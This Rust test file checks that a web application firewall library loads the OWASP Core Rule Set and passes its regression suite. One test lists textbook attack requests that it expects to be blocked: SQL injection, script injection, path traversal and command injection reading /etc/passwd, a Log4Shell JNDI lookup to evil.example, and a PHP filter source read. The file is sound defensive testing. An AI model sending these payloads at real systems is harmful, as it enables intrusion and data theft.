//! The Core Rule Set: it loads, and passes its own regression tests.
//!
//! CRS 4 and its tests are read from `crs4` beside the project (or below `TIDEGATE_SHARED`),
//! CRS 3.3 from Debian's package `modsecurity-crs`. What is not there is skipped, and said.

mod support;

use std::{
    path::{Path, PathBuf},
    process::Command,
    sync::Arc,
};

use support::{Request, shared};
use tidegate_waf::{Disk, Files, Interner, Memory, Policy, PolicyOptions, Ruleset};

/// Tests of CRS 4 that no engine behind this framing can pass: they expect what Apache does
/// to a request before its rules see it.
///
/// - 920181-1: it drops `Content-Length` beside `Transfer-Encoding`.
/// - 920620-1: it joins two `Content-Type` headers.
/// - 920640-5: a POST without `Content-Length` has no body there.
/// - 921140-1: it answers a header with a bare CR itself.
const OF_THE_HOST: [&str; 4] = ["920181-1", "920620-1", "920640-5", "921140-1"];

/// A file in memory that includes files on disk.
struct Overlay(Memory);

impl Files for Overlay {
    fn read(&self, path: &Path) -> std::io::Result<Vec<u8>> {
        self.0.read(path).or_else(|_| Disk.read(path))
    }

    fn glob(&self, pattern: &Path) -> std::io::Result<Vec<PathBuf>> {
        Disk.glob(pattern)
    }
}

fn load(includes: &[PathBuf]) -> Arc<Ruleset> {
    let text: String =
        includes.iter().map(|path| format!("Include {}\n", path.display())).collect();
    let files = Overlay(Memory([("all.conf".into(), text.into_bytes())].into()));
    Ruleset::load(&files, &[Path::new("all.conf")], &Interner::default())
        .unwrap_or_else(|faults| panic!("{faults}"))
}

fn crs4() -> Option<Arc<Ruleset>> {
    let crs = shared()?.join("crs4");
    Some(load(&[crs.join("crs-setup.conf.example"), crs.join("rules/*.conf")]))
}

fn crs3() -> Option<Arc<Ruleset>> {
    let package = Path::new("/usr/share/modsecurity-crs/owasp-crs.load");
    if !package.exists() {
        eprintln!("skipped: no {}", package.display());
        return None;
    }
    Some(load(&[package.to_owned()]))
}

fn block_at_one(rules: Arc<Ruleset>) -> Policy {
    Policy::new(rules, PolicyOptions { paranoia: Some(1), ..PolicyOptions::default() })
        .expect("1 is a paranoia level")
}

const BROWSER: &[(&str, &str)] = &[
    ("Host", "www.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
];

fn textbook_attacks_are_blocked(rules: Arc<Ruleset>) {
    let policy = block_at_one(rules);
    for target in [
        "/?id=1%27%20OR%20%271%27=%271%27%20--%20",
        "/?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?file=../../../../etc/passwd",
        "/?cmd=;cat%20/etc/passwd",
        "/?x=$%7Bjndi:ldap://evil.example/a%7D",
        "/?page=php://filter/convert.base64-encode/resource=index.php",
    ] {
        let request = Request { headers: BROWSER, ..Request::get(target) };
        let (transaction, verdict) = request.run(&policy);
        assert_eq!(verdict.status(), Some(403), "{target}: {:?}", transaction.matches());
    }
    let request =
        Request { headers: BROWSER, ..Request::get("/products?category=garden+chairs&page=2") };
    assert!(request.run(&policy).1.is_pass());
}

#[test]
fn crs_4_blocks_textbook_attacks() {
    let Some(rules) = crs4() else { return };
    assert!(rules.components()[0].starts_with("OWASP_CRS/4."));
    textbook_attacks_are_blocked(rules);
}

#[test]
fn crs_3_of_debian_blocks_textbook_attacks() {
    let Some(rules) = crs3() else { return };
    assert!(rules.components()[0].starts_with("OWASP_CRS/3."));
    textbook_attacks_are_blocked(rules);
}

#[test]
fn the_stock_configuration_of_modsecurity_loads() {
    let stock = Path::new("/etc/nginx/modsecurity.conf");
    if !stock.exists() {
        eprintln!("skipped: no {}", stock.display());
        return;
    }
    let rules = load(&[stock.to_owned()]);
    assert!(rules.ids().any(|id| id == 200_002));
    assert!(rules.notices().iter().any(|notice| notice.what.contains("SecRuleEngine")));
}

#[test]
fn a_second_policy_costs_little() {
    let Some(rules) = crs4() else { return };
    let one = block_at_one(rules.clone());
    let four = Policy::new(rules, PolicyOptions { paranoia: Some(4), ..PolicyOptions::default() })
        .unwrap();
    assert!(one.rules_in_force() + 100 < four.rules_in_force());
}

/// The regression tests with every pattern tried with and without the prefilter.
#[test]
fn crs_4_passes_its_regression_tests_and_the_prefilter_misses_nothing() {
    let Some(shared) = shared() else { return };
    let crs = shared.join("crs4");
    let python = Command::new("python3").args(["-c", "import yaml"]).status();
    if !python.is_ok_and(|status| status.success()) {
        eprintln!("skipped: no python3 with yaml");
        return;
    }
    let binary = std::env::current_exe()
        .unwrap()
        .parent()
        .unwrap()
        .parent()
        .unwrap()
        .join("examples/crs_stdio");
    if !binary.exists() {
        eprintln!("skipped: no {}; build the examples", binary.display());
        return;
    }
    let stock = PathBuf::from("/etc/nginx/modsecurity.conf");
    let mut files =
        vec![crs.join("crs-setup.conf.example"), crs.join("regression.conf"), crs.join("rules")];
    if stock.exists() {
        files.insert(0, stock);
    }
    let directory = std::env::temp_dir().join(format!("tidegate-waf-{}", std::process::id()));
    std::fs::create_dir_all(&directory).unwrap();
    let all = directory.join("all.conf");
    let text: String = files
        .iter()
        .map(|path| {
            format!("Include {}{}\n", path.display(), if path.is_dir() { "/*.conf" } else { "" })
        })
        .collect();
    std::fs::write(&all, text).unwrap();
    let report = directory.join("report.json");
    let output = Command::new("python3")
        .arg(crs.join("crs_runner.py"))
        .args(["stdio", "--tests"])
        .arg(crs.join("tests"))
        .arg("--json")
        .arg(&report)
        .arg("--")
        .arg(&binary)
        .arg("--check")
        .arg(&all)
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&output.stdout).into_owned()
        + &String::from_utf8_lossy(&output.stderr);
    let rows: serde_json::Value = serde_json::from_slice(
        &std::fs::read(&report).unwrap_or_else(|_| panic!("no report: {shown}")),
    )
    .unwrap();
    std::fs::remove_dir_all(&directory).unwrap();
    let rows = rows.as_array().unwrap();
    let failed: Vec<&str> = rows
        .iter()
        .filter(|row| row["verdict"] == "fail")
        .filter_map(|row| row["id"].as_str())
        .collect();
    let unexpected: Vec<_> = failed.iter().filter(|id| !OF_THE_HOST.contains(id)).collect();
    assert!(rows.len() > 3_000, "{shown}");
    assert!(unexpected.is_empty(), "{unexpected:?}\n{shown}");
}
